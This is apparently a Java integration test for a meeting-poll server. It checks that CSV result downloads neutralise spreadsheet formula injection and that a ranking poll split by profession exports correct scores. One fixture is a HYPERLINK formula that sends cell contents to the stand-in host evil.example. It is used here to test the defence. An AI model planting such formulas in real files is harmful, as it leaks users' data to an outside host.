package org.colearn.server.session;

import static org.colearn.server.testing.LiveClient.bodyOf;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.colearn.server.testing.Api;
import org.colearn.server.testing.LiveClient;
import org.colearn.server.testing.People;
import org.colearn.server.testing.TestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** A result's CSV download opens in a spreadsheet as text: what people wrote never runs as a formula. */
@Timeout(60)
class ResultCsvIT {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open the slides\")";

    static TestServer server;

    @BeforeAll
    static void setUp() {
        server = TestServer.start();
    }

    @AfterAll
    static void tearDown() {
        server.close();
    }

    @Test
    void cellsThatWouldRunAsFormulasAreDownloadedAsText() throws IOException {
        Api api = server.api();
        String fionaToken = People.signUp(api, "Fiona Facilitator");
        Api fiona = api.as(fionaToken);
        String collaborative = People.collaborative(fiona, "Sepsis");
        Map<String, Object> poll = Map.of(
                "question", "@SUM(1,1) or what first?",
                "options", List.of(HYPERLINK, "+44 triage line", "-1 bed a day", "Huddles"),
                "multipleChoice", false,
                "anonymous", false);
        Api.Reply created = fiona.post("collaboratives/" + collaborative + "/sessions", Map.of(
                "title", "Session", "startsAt", "2026-12-01T09:30:00Z", "durationMinutes", 60,
                "agenda", List.of(Map.of("title", "Pulse check", "activityType", "poll", "plannedMinutes", 5, "config", poll))));
        assertEquals(201, created.status(), created::toString);
        String sessionId = created.json().path("id").asText();
        try (LiveClient live = LiveClient.join(server, sessionId, fionaToken, "fiona-laptop", null)) {
            live.request("session.start", bodyOf());
            live.request("agenda.goto", bodyOf("index", 0));
            live.request("poll.reveal", bodyOf());
            live.awaitEvent("activity.result");
        }
        long seq = fiona.get("sessions/" + sessionId + "/results").json().get(0).path("seq").asLong();

        Api.Reply csv = fiona.get("sessions/" + sessionId + "/results/" + seq + ".csv");

        assertEquals(200, csv.status(), csv::toString);
        List<List<String>> rows = CSVParser.parse(csv.text(), CSVFormat.RFC4180).getRecords().stream()
                .map(CSVRecord::toList)
                .toList();
        assertEquals(List.of(
                        List.of("question", "answer", "votes", "share_of_voters_percent"),
                        List.of("'@SUM(1,1) or what first?", "'" + HYPERLINK, "0", "0"),
                        List.of("'@SUM(1,1) or what first?", "'+44 triage line", "0", "0"),
                        List.of("'@SUM(1,1) or what first?", "'-1 bed a day", "0", "0"),
                        List.of("'@SUM(1,1) or what first?", "Huddles", "0", "0")),
                rows);
        assertTrue(fiona.get("sessions/" + sessionId + "/results/" + seq + ".json").text().contains("=HYPERLINK("),
                "the JSON download keeps the text exactly as written");
    }

    @Test
    void aRankingSplitByProfessionDownloadsEachAnswersScoresForEveryoneAndForEachGroup() throws IOException {
        Api api = server.api();
        String fionaToken = People.signUp(api, "Fiona Ranker");
        Api fiona = api.as(fionaToken);
        String collaborative = People.collaborative(fiona, "Threats");
        String code = People.invitation(fiona, collaborative, "participant");
        String site = People.site(fiona, collaborative, "NHS Fife", "trust");
        Map<String, Object> ranking = Map.of("question", "Which threats matter most?", "kind", "ranking",
                "options", List.of("Staffing gaps", "Sepsis missed", "Falls"), "multipleChoice", false, "anonymous", true);
        String sessionId = People.session(fiona, collaborative, "Session", 60,
                List.of(Map.of("title", "Threats", "activityType", "poll", "plannedMinutes", 5, "config", ranking)));
        try (LiveClient live = LiveClient.join(server, sessionId, fionaToken, "fiona-laptop", null)) {
            live.request("session.start", bodyOf());
            live.request("agenda.goto", bodyOf("index", 0));
            for (String nurse : List.of("Nia Ranker", "Nora Ranker", "Nell Ranker")) {
                String token = People.signUp(api, nurse);
                People.join(api.as(token), code, site, "nurse");
                try (LiveClient voter = LiveClient.join(server, sessionId, token, nurse.replace(' ', '-') + "-phone", null)) {
                    assertTrue(voter.request("poll.vote", bodyOf("order", List.of(1, 0, 2))).path("error").isMissingNode());
                }
            }
            assertTrue(live.request("poll.split", bodyOf("by", "profession")).path("error").isMissingNode());
            live.request("poll.reveal", bodyOf());
            live.awaitEvent("activity.result");
        }
        long seq = fiona.get("sessions/" + sessionId + "/results").json().get(0).path("seq").asLong();

        List<List<String>> rows = CSVParser.parse(fiona.get("sessions/" + sessionId + "/results/" + seq + ".csv").text(), CSVFormat.RFC4180)
                .getRecords().stream().map(CSVRecord::toList).toList();

        String question = "Which threats matter most?";
        assertEquals(List.of(
                        List.of("question", "group", "answer", "mean_rank", "borda_points"),
                        List.of(question, "All", "Sepsis missed", "1.00", "6"),
                        List.of(question, "All", "Staffing gaps", "2.00", "3"),
                        List.of(question, "All", "Falls", "3.00", "0"),
                        List.of(question, "Nurses", "Sepsis missed", "1.00", "6"),
                        List.of(question, "Nurses", "Staffing gaps", "2.00", "3"),
                        List.of(question, "Nurses", "Falls", "3.00", "0")),
                rows);
        String json = fiona.get("sessions/" + sessionId + "/results/" + seq + ".json").text();
        assertTrue(json.contains("\"split\":\"profession\"") && json.contains("\"label\":\"Nurses\"")
                && json.contains("{\"index\":1,\"text\":\"Sepsis missed\",\"meanRank\":1.0,\"points\":6}"), json);
    }
}
